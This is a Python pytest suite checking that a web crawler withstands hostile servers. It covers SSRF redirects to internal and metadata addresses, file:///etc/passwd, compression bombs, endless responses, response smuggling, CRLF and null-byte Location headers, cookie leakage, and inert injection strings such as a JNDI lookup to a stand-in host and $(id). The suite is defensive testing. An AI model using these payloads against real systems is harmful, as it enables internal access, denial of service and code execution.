"""What a crawled server may try (reliability D 34 to 48), a promise a test: it can cost only its
own budget, it never reaches inside, and what it says is kept as bytes and obeyed in nothing."""

from __future__ import annotations

import gzip
import socket
import zlib
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from pathlib import Path

import brotli
import pytest
import zstandard

from archive.records import Capture
from archive.warc.captures import read_captures
from archive.warc.manifest import CrawlManifest, SiteTally
from crawler.crawl import crawl
from tests.crawler.loopback import LoopbackWeb, Page, a_site, linking, serving
from tests.crawler.names import name_server

PATIENCE = 2.0  # seconds an answer may take
HTML = ("Content-Type", "text/html")
OK = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
GOOD = b"<p>good</p>"
UNFOLDED = 80 << 20


@dataclass(frozen=True)
class Night:
    manifest: CrawlManifest
    web: LoopbackWeb
    captures: tuple[Capture, ...]

    def tally(self, site_id: str) -> SiteTally:
        return next(t for t in self.manifest.tallies if t.site_id == site_id)

    def outcomes(self, site_id: str) -> dict[str, int]:
        return dict(self.tally(site_id).outcomes)

    def asked(self, host: str) -> set[str]:
        return {url.partition(host)[2] for url in self.web.count() if f"//{host}/" in url}

    def captured(self, host: str) -> dict[str, Capture]:
        return {
            c.target_uri.partition(host)[2]: c
            for c in self.captures
            if f"//{host}/" in c.target_uri
        }


def crawled(run_dir: Path, web: LoopbackWeb, manifest: CrawlManifest) -> Night:
    captures = (c for warc in manifest.warcs for c in read_captures(run_dir / warc.name))
    return Night(manifest, web, tuple(captures))


def moved(to: str, status: int = 302, body: bytes = b"", *headers: tuple[str, str]) -> Page:
    return Page(body, status, (("Location", to), *headers))


def raw(*pieces: bytes) -> Page:
    def send(connection: socket.socket) -> None:
        for piece in pieces:
            try:
                connection.sendall(piece)
            except OSError:
                return

    return Page(send=send)


def endless(connection: socket.socket) -> None:
    """A body without a length and without an end."""
    try:
        connection.sendall(OK + b"\r\n")
        while True:
            connection.sendall(b"<p>more</p>" * 50_000)
    except OSError:
        return


def endless_head(connection: socket.socket) -> None:
    """Headers without end, none of them long."""
    try:
        connection.sendall(OK)
        while True:
            connection.sendall(b"X-Header: value\r\n" * 5_000)
    except OSError:
        return


def smuggling(connection: socket.socket) -> None:
    """An answer with one behind it that nobody asked for, and then whatever is asked next."""
    forged = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 6\r\n\r\nforged"
    own = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 3\r\n\r\nown"
    try:
        connection.sendall(own + forged)
        connection.settimeout(PATIENCE / 4)
        if connection.recv(65536):
            connection.sendall(own)
    except OSError:
        return


def coded(body: bytes, *codings: str) -> Page:
    return Page(body, 200, (HTML, *(("Content-Encoding", coding) for coding in codings)))


def articles(*more: str) -> Page:
    return linking(*more, "/t999.html")


def nested(body: bytes, times: int) -> bytes:
    for _ in range(times):
        body = gzip.compress(body, 1)
    return body


INSIDE = (
    "http://127.0.0.2:{port}/",
    "http://2130706434:{port}/",
    "http://0177.0.0.2:{port}/",
    "http://0x7f.2:{port}/",
    "http://0.0.0.0:{port}/",
    "http://[::ffff:127.0.0.2]:{port}/",
    "http://[::1]:{port}/",
    "http://localhost.:{port}/",
    "http://１２７.0.0.2:{port}/",
    "http://169.254.169.254/latest/meta-data/",
    "http://10.0.0.1/",
    "http://100.64.0.1/",
    "http://192.168.0.1:{port}/",
    "http://[fe80::1]:{port}/",
    "http://[fd00::1]/",
    "http://inner.example:{port}/",
)
"""Spellings of a server inside, addresses of others, and a name that resolves to the first."""

SCHEMES = (
    "file:///etc/passwd",
    "data:text/html,<p>x",
    "ftp://a.example/x",
    "s3://a/b",
    "gopher://a.example/",
)


@pytest.fixture(scope="module")
def lured(tmp_path_factory: pytest.TempPathFactory) -> tuple[Night, LoopbackWeb]:
    """A night over a server that leads inside in every way there is, and the server inside."""
    folder = tmp_path_factory.mktemp("lured")
    patch = pytest.MonkeyPatch()
    with serving({}, "127.0.0.2") as inner, serving({}) as web:
        own = f"127.0.0.1:{web.port}"
        lures = [lure.format(port=inner.port) for lure in INSIDE]
        pages: dict[str, Page] = {}
        numbers = iter(range(1, 500))
        for lure in lures:
            for status in (301, 302, 303, 307, 308):
                # as bytes of UTF-8, which is how a server would send such a name
                told = lure.encode().decode("latin-1")
                pages[f"/t{next(numbers)}.html"] = moved(told, status)
        for scheme in SCHEMES:
            pages[f"/t{next(numbers)}.html"] = moved(scheme)
        for lure in lures:
            tricks = (
                f"<meta http-equiv=refresh content='0;url={lure}'>",
                f"<script>location.href='{lure}'</script><iframe src='{lure}'></iframe>",
                f"<link rel=canonical href='{lure}'><base href='{lure}'><img src='{lure}x.png'>",
            )
            for trick in tricks:
                pages[f"/t{next(numbers)}.html"] = Page(trick.encode())
            told = f"0; {lure}".encode().decode("latin-1")
            refreshed = Page(b"<p>x</p>", 200, (HTML, ("Refresh", told)))
            pages[f"/t{next(numbers)}.html"] = refreshed
        listed = [f"{lure}t{n}.html" for n, lure in enumerate(lures)]
        pages["/list/"] = linking(*pages, *listed, *lures)
        pages["/map.xml"] = Page(
            (
                "<urlset>" + "".join(f"<url><loc>{one}</loc></url>" for one in listed) + "</urlset>"
            ).encode()
        )
        maps = "".join(f"<sitemap><loc>{lure}map.xml</loc></sitemap>" for lure in lures)
        pages["/maps.xml"] = Page(f"<sitemapindex>{maps}</sitemapindex>".encode())
        items = "".join(
            f"<item><link>{one}</link><enclosure url='{one}a.pdf'/></item>" for one in listed
        )
        pages["/rss"] = Page(f"<rss><channel>{items}</channel></rss>".encode())
        told = "".join(f"Sitemap: {lure}map.xml\n" for lure in lures)
        pages["/robots.txt"] = Page(f"User-agent: *\nDisallow:\n{told}".encode())
        web.pages = {f"http://{own}{path}": page for path, page in pages.items()}
        discovery = {
            "start": [f"http://{own}/list/"],
            "sitemaps": [f"http://{own}/map.xml", f"http://{own}/maps.xml"],
            "feeds": [f"http://{own}/rss"],
        }
        try:
            name_server(patch, folder / "names", {"inner.example": [["127.0.0.2"]]})
            site = a_site("own", own, discovery=discovery)
            manifest = crawl(folder / "run", [site], allow=["127.0.0.1"])
        finally:
            patch.undo()
        return crawled(folder / "run", web, manifest), inner


def test_34_no_lead_of_any_kind_reaches_a_server_inside(
    lured: tuple[Night, LoopbackWeb],
) -> None:
    night, inner = lured
    assert inner.asked == []
    assert len(night.captures) > 140
    outcomes = night.outcomes("own")
    spelled = len(INSIDE) - 2  # but for two names of one address, and a name of another site
    assert outcomes["refused:address"] > spelled, outcomes
    assert outcomes.get("refused:offsite", 0) <= 2, outcomes


def test_36_a_redirect_leads_to_no_other_scheme(lured: tuple[Night, LoopbackWeb]) -> None:
    night, _ = lured
    assert {c.target_uri.partition(":")[0] for c in night.captures} == {"http"}
    assert not any(b"root:" in c.payload for c in night.captures)


def test_35_a_name_that_turns_inside_is_not_followed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """First an address outside, then one inside, and the other way round."""
    with serving({}) as web, serving({}, "127.0.0.2", port=web.port) as inner:
        answers = {
            "good.example": [["127.0.0.1"], ["127.0.0.2"]],
            "bad.example": [["127.0.0.2"], ["127.0.0.2"], ["127.0.0.1"]],
        }
        name_server(monkeypatch, tmp_path / "names", answers, outside=["127.0.0.1"])
        hosts = [f"{name}:{web.port}" for name in answers]
        web.pages = {
            f"http://{host}{path}": page
            for host in hosts
            for path, page in (("/list/", articles()), ("/t999.html", Page(GOOD)))
        }
        sites = [
            a_site(name.partition(".")[0], host) for name, host in zip(answers, hosts, strict=True)
        ]
        # an address that is allowed is allowed to who spells it, not to who resolves to it
        manifest = crawl(tmp_path / "run", sites, allow=["127.0.0.2"])
        assert inner.asked == []
    night = crawled(tmp_path / "run", web, manifest)
    assert night.captured(hosts[0])["/t999.html"].payload == GOOD


LONG = "x" * 100_000


def hostile_pages() -> dict[str, Page]:  # made when they are served: packing takes a second
    """A host a trick, and beside each trick a good page that must arrive."""
    zeros = bytes(UNFOLDED)
    packed = gzip.compress(zeros, 9)
    tomorrow = format_datetime(datetime.now(UTC) + timedelta(days=1), usegmt=True)
    return {
        # 37: redirects without end
        "http://chain.example/list/": articles(
            "/t0.html", "/t2000.html", "/t3000.html", "/t4000.html?q=a"
        ),
        **{
            f"http://chain.example/t4000.html?q={'a' * n}": moved(f"/t4000.html?q={'a' * (n + 1)}")
            for n in range(1, 50)
        },
        **{f"http://chain.example/t{n}.html": moved(f"/t{n + 1}.html") for n in range(990)},
        "http://chain.example/t2000.html": moved("/t2000.html"),
        "http://chain.example/t3000.html": moved("/t3001.html"),
        "http://chain.example/t3001.html": moved("/t3000.html"),
        "http://chain.example/t999.html": Page(GOOD),
        # 38: bombs of every coding, in pages and in what is read before them
        "http://bombs.example/robots.txt": coded(packed, "gzip"),
        "http://bombs.example/list/": articles(*(f"/t{n}.html" for n in range(1, 7))),
        "http://bombs.example/t1.html": coded(zlib.compress(zeros, 9), "deflate"),
        "http://bombs.example/t2.html": coded(brotli.compress(zeros, quality=5), "br"),
        "http://bombs.example/t3.html": coded(zstandard.compress(zeros), "zstd"),
        "http://bombs.example/t4.html": coded(nested(GOOD, 100), *["gzip"] * 100),
        "http://bombs.example/t5.html": coded(gzip.compress(packed, 9), "gzip", "gzip"),
        "http://bombs.example/t6.html": moved(
            "/t999.html", 302, packed, ("Content-Encoding", "gzip")
        ),
        "http://bombs.example/map.xml.gz": Page(packed),
        "http://bombs.example/t999.html": Page(GOOD),
        # 39: a body without end
        "http://endless.example/list/": articles("/t1.html"),
        "http://endless.example/t1.html": Page(send=endless),
        "http://endless.example/t999.html": Page(GOOD),
        # 40: heads made to hurt
        "http://heads.example/list/": articles(
            *(f"/t{n}.html" for n in range(1, 8)),
            f"/{LONG}/t8.html",
            "/t9.html?\x00",
            "/t10.html",
        ),
        "http://heads.example/t1.html": raw(
            OK, *[b"Set-Cookie: a%d=b; Domain=example\r\n" % n for n in range(10_000)], b"\r\n<p>x"
        ),
        "http://heads.example/t2.html": raw(
            b"HTTP/1.1 302 Found\r\nLocation: /t3.html\r\n\tX-Folded: /t4.html\r\n\r\n"
        ),
        "http://heads.example/t3.html": moved("/t999.html%0d%0aSet-Cookie:%20a=b"),
        "http://heads.example/t4.html": moved("/t999.html\x00/../../etc"),
        "http://heads.example/t5.html": moved(f"/{LONG}"),
        "http://heads.example/t6.html": raw(b"HTTP/1.1 200 " + LONG.encode() + b"\r\n\r\n"),
        "http://heads.example/t7.html": raw(b"HTTP/9.9 -7 \xff\xfe\r\n: \r\n\r\n<p>x"),
        "http://heads.example/t10.html": Page(send=endless_head),
        "http://heads.example/t999.html": Page(GOOD),
        # 42: what a robots.txt can be
        **{
            f"http://{host}.example{path}": page
            for host in ("r403", "r404", "r500", "rslow", "rlong", "rbom", "rgbk", "rwild", "rhtml")
            for path, page in (
                ("/list/", articles("/private/t1.html", "/t2.html?print=1")),
                ("/private/t1.html", Page(b"<p>private</p>")),
                ("/t2.html?print=1", Page(b"<p>print</p>")),
                ("/t999.html", Page(GOOD)),
            )
        },
        "http://r403.example/robots.txt": Page(b"no", 403),
        "http://r500.example/robots.txt": Page(b"no", 500),
        "http://rslow.example/robots.txt": Page(b"User-agent: *\n", wait=30),
        "http://rlong.example/robots.txt": Page(
            b"User-agent: *\nDisallow: /private/\n" + b"# x\n" * 200_000 + b"Disallow: /\n"
        ),
        "http://rbom.example/robots.txt": Page(b"\xef\xbb\xbfUser-agent: *\nDisallow: /private/\n"),
        "http://rgbk.example/robots.txt": Page(
            "# 内部资料\nUser-agent: *\nDisallow: /private/\n".encode("gb18030")
        ),
        "http://rwild.example/robots.txt": Page(
            b"User-agent: other\nDisallow: /\n\n"
            b"User-agent: Dingben\nDisallow: /*?print=\nAllow: /\n"
        ),
        "http://rhtml.example/robots.txt": Page(b"<html><body>not a robots.txt: /</body></html>"),
        # 43: asked to wait until a date, and checks that want a script to be run
        "http://dated.example/list/": Page(b"", 429, (("Retry-After", tomorrow),)),
        **{
            f"http://s{status}.example{path}": Page(b"<script>$_ts=1</script>", status)
            for status in (412, 521)
            for path in ["/list2/", *(f"/t{n}.html" for n in range(20))]
        },
        **{
            f"http://s{status}.example/list/": linking(*(f"/t{n}.html" for n in range(20)))
            for status in (412, 521)
        },
        "http://burst.example/list/": articles(*(f"/t{n}.html" for n in range(4))),
        **{f"http://burst.example/t{n}.html": Page(b"busy", 503) for n in range(4)},
        "http://burst.example/t999.html": Page(GOOD),
        # 45: things to give back, and places to give them to
        "http://cookies.example/list/": Page(
            linking("/t1.html", "http://user:secret@cookies.example/t2.html", "/t999.html").body,
            200,
            (HTML, ("Set-Cookie", "id=1; Path=/"), ("Set-Cookie", "id=2; Domain=.example")),
        ),
        "http://cookies.example/t1.html": moved(
            "/t3.html", 302, b"", ("Set-Cookie", "id=3"), ("WWW-Authenticate", "Basic realm=x")
        ),
        "http://cookies.example/t3.html": Page(
            b"", 401, (("WWW-Authenticate", 'Basic realm="x"'), ("Set-Cookie", "id=4"))
        ),
        "http://cookies.example/t999.html": Page(GOOD),
        # 48: headers that would be code or formats somewhere
        "http://inert.example/list/": articles("/t1.html"),
        "http://inert.example/t1.html": Page(
            b"<p>inert</p>",
            200,
            (
                ("Content-Type", "text/html; charset=%(x)s{0}$(id)"),
                ("Referrer-Policy", "unsafe-url"),
                ("Content-Disposition", "attachment; filename=../../etc/passwd"),
                ("X-%s%n", "\x1b[31m${jndi:ldap://a.example/}<script>"),
                ("Link", "<http://127.0.0.1:9/>; rel=preload"),
            ),
        ),
        "http://inert.example/t999.html": Page(GOOD),
    }


@pytest.fixture(scope="module")
def night(tmp_path_factory: pytest.TempPathFactory) -> Night:
    run_dir = tmp_path_factory.mktemp("hostile") / "run"
    pages = hostile_pages()
    hosts = sorted({url.split("/")[2] for url in pages})
    more = {"bombs.example": {"sitemaps": ["http://bombs.example/map.xml.gz"]}}
    sites = [
        a_site(
            host.partition(".")[0],
            host,
            limits={"seconds": PATIENCE},
            discovery={"articles": [r"/t\d+\.html"], **more.get(host, {})},
        )
        for host in hosts
    ]
    with serving(pages) as web:
        return crawled(run_dir, web, crawl(run_dir, sites, proxy=web.proxy))


UNDISTURBED = ("chain", "bombs", "endless", "heads", "burst", "cookies", "inert")


@pytest.mark.parametrize("site", UNDISTURBED)
def test_a_sites_own_good_page_arrives_beside_its_worst(night: Night, site: str) -> None:
    assert night.captured(f"{site}.example")["/t999.html"].payload == GOOD


def test_37_a_chain_of_redirects_ends_and_a_circle_too(night: Night) -> None:
    asked = night.web.count()
    chained = [n for n in range(990) if f"http://chain.example/t{n}.html" in asked]
    assert chained == list(range(len(chained)))
    assert len(chained) < 12
    assert asked["http://chain.example/t2000.html"] < 12
    assert asked["http://chain.example/t3000.html"] < 12
    assert len([url for url in asked if "t4000.html" in url]) < 12


def test_38_bombs_are_kept_as_they_were_sent_and_unfold_only_so_far(night: Night) -> None:
    captured = night.captured("bombs.example")
    assert {f"/t{n}.html" for n in range(1, 6)} <= captured.keys()
    assert all(len(capture.payload) < UNFOLDED for capture in captured.values())


def test_39_a_body_without_end_costs_its_page_and_is_marked_or_refused(night: Night) -> None:
    outcomes = night.outcomes("endless")
    assert outcomes.keys() & {"failed:size", "failed:timeout", "failed:connection"}


def test_39_an_answer_that_nobody_asked_for_is_no_pages(tmp_path: Path) -> None:
    """A web by itself: one proxy serves all hosts of the others on the connections it keeps."""
    paths = [f"/t{n}.html" for n in range(6)]
    pages = {f"http://smuggler.example{path}": Page(send=smuggling) for path in paths}
    pages["http://smuggler.example/list/"] = linking(*paths)
    with serving(pages) as web:
        site = a_site("smuggler", "smuggler.example", limits={"seconds": PATIENCE})
        smuggled = crawled(tmp_path, web, crawl(tmp_path, [site], proxy=web.proxy))
    captured = smuggled.captured("smuggler.example")
    assert {captured[path].payload for path in paths} == {b"own"}
    assert not any(b"forged" in capture.payload for capture in smuggled.captures)


def test_40_heads_made_to_hurt_cost_their_own_page(night: Night) -> None:
    tally = night.tally("heads")
    assert sum(count for _, count in tally.outcomes) == tally.requests
    assert "failed:other" not in dict(tally.outcomes)
    assert "failed:headers" in dict(tally.outcomes), tally.outcomes
    assert max(len(path) for path in night.asked("heads.example")) < 3000
    assert not any("\x00" in path or "\r" in path for path in night.asked("heads.example"))


@pytest.mark.parametrize("site", ["r403", "r404", "rhtml"])
def test_42_a_robots_txt_that_is_none_forbids_nothing(night: Night, site: str) -> None:
    assert "/private/t1.html" in night.captured(f"{site}.example")


@pytest.mark.parametrize("site", ["r500", "rslow"])
def test_42_a_robots_txt_that_cannot_be_had_forbids_everything(night: Night, site: str) -> None:
    assert "/list/" not in night.asked(f"{site}.example")
    assert any("so nothing was asked there" in line for line in night.tally(site).problems)


@pytest.mark.parametrize("site", ["rlong", "rbom", "rgbk"])
def test_42_a_robots_txt_is_read_whatever_it_is_written_in(night: Night, site: str) -> None:
    asked = night.asked(f"{site}.example")
    assert "/private/t1.html" not in asked
    assert "/t999.html" in asked


def test_42_wildcards_and_the_group_with_our_name_are_heeded(night: Night) -> None:
    asked = night.asked("rwild.example")
    assert "/t2.html?print=1" not in asked
    assert {"/t999.html", "/private/t1.html"} <= asked


def test_43_a_host_that_asks_to_wait_until_tomorrow_is_not_asked_on(night: Night) -> None:
    asked = [url for url in night.web.count().elements() if "dated.example/list" in url]
    assert len(asked) <= 3


@pytest.mark.parametrize("status", [412, 521])
def test_43_a_site_that_wants_a_script_to_be_run_is_paused_and_says_so(
    night: Night, status: int
) -> None:
    tally = night.tally(f"s{status}")
    assert tally.stopped_by == "blocked"
    assert any("keeps crawlers out" in line for line in tally.problems)
    assert len([path for path in night.asked(f"s{status}.example") if "/t" in path]) <= 16


def test_45_nothing_that_a_server_gave_is_given_back_to_anybody(night: Night) -> None:
    for _, url, headers in night.web.asked:
        names = {name.lower() for name in headers}
        assert names.isdisjoint({"cookie", "authorization", "proxy-authorization"}), url
        assert "secret" not in url
        assert "@" not in headers["Host"]
    assert night.outcomes("cookies")["refused:userinfo"] == 1


def test_48_what_headers_say_is_kept_and_acts_nowhere(night: Night) -> None:
    page = night.captured("inert.example")["/t1.html"]
    assert page.payload == b"<p>inert</p>"
    assert page.header("Content-Type") == "text/html; charset=%(x)s{0}$(id)"
    assert night.asked("inert.example") == {"/robots.txt", "/list/", "/t1.html", "/t999.html"}
